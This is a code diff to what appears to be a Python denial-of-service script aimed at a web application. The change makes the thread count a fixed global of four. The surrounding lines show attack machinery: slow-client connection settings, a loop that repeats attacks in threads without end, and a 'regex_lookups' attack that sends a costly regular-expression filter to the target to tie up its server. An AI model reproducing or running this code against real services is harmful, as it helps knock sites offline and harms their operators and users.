@@ -21,7 +21,7 @@ import requests
 from PIL import Image
 
 CONNECTIONS = 200
-THREADS = 8
+THREADS = 4  # of an attack that repeats a request
 PAUSE = 0.5  # seconds between two bytes of a slow client
 RETRY_SECONDS = 0.05  # after a connection that was refused
 PARTS = 1500
@@ -182,7 +182,7 @@ def staying(target: Target, address: str) -> None:
 # Wide
 
 
-def _repeat(attack: Callable[[], object], *, threads: int = THREADS) -> None:
+def _repeat(attack: Callable[[], object]) -> None:
     """Attack in several threads, without end."""
 
     def run() -> None:
@@ -192,7 +192,7 @@ def _repeat(attack: Callable[[], object], *, threads: int = THREADS) -> None:
             except (OSError, requests.RequestException):
                 time.sleep(RETRY_SECONDS)
 
-    for _ in range(threads):
+    for _ in range(THREADS):
         threading.Thread(target=run, daemon=True).start()
     threading.Event().wait()
 
@@ -281,7 +281,7 @@ def regex_lookups(target: Target, address: str) -> None:
             found = {"original_filename__regex": SLOW_PATTERN}
             session.get(target.url(page), params=found, timeout=120)
 
-    _repeat(attack, threads=2)
+    _repeat(attack)
 
 
 ATTACKS: dict[str, list[Attack]] = {
